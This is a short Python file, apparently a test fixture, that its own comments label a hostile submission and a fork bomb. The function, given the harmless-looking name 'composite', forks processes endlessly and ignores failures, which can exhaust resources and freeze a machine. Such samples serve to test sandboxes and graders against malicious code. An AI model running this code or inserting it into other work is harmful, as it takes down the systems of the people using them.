# ruff: noqa - a hostile submission, not the project's code
"""A fork bomb: every process forks for ever, ignoring failures."""
import os


def composite(x, w, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
